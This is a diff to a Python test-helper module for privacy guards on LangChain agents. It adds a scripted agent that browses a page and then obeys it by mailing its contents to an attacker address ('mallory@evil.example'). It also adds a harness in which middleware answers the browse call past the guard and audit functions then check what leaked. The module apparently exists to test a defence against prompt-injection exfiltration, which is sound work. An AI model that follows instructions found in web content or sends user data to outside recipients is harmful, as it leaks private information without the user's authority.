@@ -1,16 +1,28 @@
 """What the `create_agent` privacy tests share: a web page tool (its body untrusted), a mail tool (a sink
-whose recipients need the user's authority), and an app's middleware that answers a tool's calls
-itself, past the gate."""
+whose recipients need the user's authority), an app's middleware that answers a tool's calls itself,
+past the gate, and a guarded app whose model obeys what that middleware answered."""
 
 from __future__ import annotations
 
 from typing import Any
 
+from langchain.agents import create_agent
 from langchain.agents.middleware import AgentMiddleware
-from langchain_core.messages import ToolMessage
+from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
 from langchain_core.tools import tool
+from langgraph.checkpoint.memory import InMemorySaver
 
-from guards import privacy_sink, privacy_source
+from graphs import GuardMiddleware
+from guards import (
+    PrivacyFlow,
+    PrivacyPolicy,
+    audit_trace,
+    privacy_sink,
+    privacy_source,
+    trace_from_journal,
+    trace_from_messages,
+)
+from vfa.testing import ScriptedModel
 
 
 def web_page(body: str) -> Any:
@@ -51,3 +63,42 @@ class AnsweredPastTheGate(AgentMiddleware):
         if request.tool_call["name"] == self.tool_name:
             return ToolMessage(self.text, tool_call_id=request.tool_call["id"], name=self.tool_name)
         return handler(request)
+
+
+ME, EVIL = "me@home.example", "mallory@evil.example"
+"""The user (who may read and authorise anything) and the attacker the cached pages name."""
+
+PARTNER = "https://partner.example"
+
+
+def browse_then_obey(url: str = PARTNER) -> list[Any]:
+    """The model turns of an agent that browses `url` (id "b1") and then obeys the page: mails its
+    address (id "m1")."""
+    return [AIMessage("", tool_calls=[{"name": "browse", "id": "b1", "args": {"url": url}}]),
+            AIMessage("", tool_calls=[{"name": "send_email", "id": "m1", "args": {"to": EVIL, "body": "quote"}}])]
+
+
+def obeyed_past_the_gate(cached: Any, turns: list[Any] | None = None) -> tuple[list[Any], list[list[Any]]]:
+    """Run a `create_agent` app guarded by `GuardMiddleware` (a privacy flow, the user `ME`) whose cache
+    answers every `browse` past the gate with `cached` (text or content blocks), the model taking `turns`
+    in order, one per tool message so far (`browse_then_obey()` by default). Returns the mails sent and the
+    (call id, rule, argument) findings of the journal's audit and of the messages' audit."""
+    sent: list[Any] = []
+    tools = [web_page("(the live page, never read: the cache answers)"), mail_to(sent)]
+    steps = browse_then_obey() if turns is None else turns
+
+    def rule(ms: list[Any]) -> Any:
+        n = sum(m.type == "tool" for m in ms)
+        return steps[n] if n < len(steps) else "done"
+
+    policy = PrivacyPolicy.of(ME)
+    flow = PrivacyFlow(policy, secret=b"past-the-gate")
+    mw = GuardMiddleware([flow.guard()], flow=flow, read_only=["browse"])
+    app = create_agent(ScriptedModel(rule=rule), tools, middleware=[mw, AnsweredPastTheGate("browse", cached)],
+                       checkpointer=InMemorySaver())
+    out = app.invoke({"messages": [HumanMessage(f"Get me a quote from the partner, mail me at {ME}")]},
+                     {"configurable": {"thread_id": "t"}})
+    audits = [[(v.call_id, v.rule, v.arg) for v in audit_trace(trace, tools, policy, thread_id="t")]
+              for trace in (trace_from_journal(mw.journal, "t", messages=out["messages"]),
+                            trace_from_messages(out["messages"]))]
+    return sent, audits
